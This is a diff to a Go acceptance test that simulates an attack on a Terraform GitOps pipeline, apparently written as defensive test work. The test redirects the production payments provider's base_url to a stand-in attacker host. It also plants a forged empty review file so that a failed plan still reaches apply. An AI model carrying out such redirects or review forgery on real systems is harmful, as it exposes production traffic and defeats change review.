@@ -112,8 +112,11 @@ func TestAccGitops_attacker(t *testing.T) {
 	p.edit("production/main.tf", "provider \"payments\" {\n", "provider \"payments\" {\n  base_url        = \""+attacker.URL+"\"\n")
 	p.edit("modules/shop/main.tf", "= 89\n", "= 91\n")
 	plan := p.pull()
-	// Somebody overlooks the failed plan.
+	// Now the plan comes to the apply all the same.
 	p.store("successes", p.head()+" "+p.id()+"\n")
+	if review := filepath.Join("runs", p.id(), "review-production", "production.json"); !p.has(review) {
+		p.store(review, `{"version": 2, "key": "none", "level": "note", "changes": [], "findings": []}`)
+	}
 	apply := p.merge("")
 	for job, result := range map[string]ran{"the plan": plan, "the apply": apply} {
 		if result.Code == 0 {
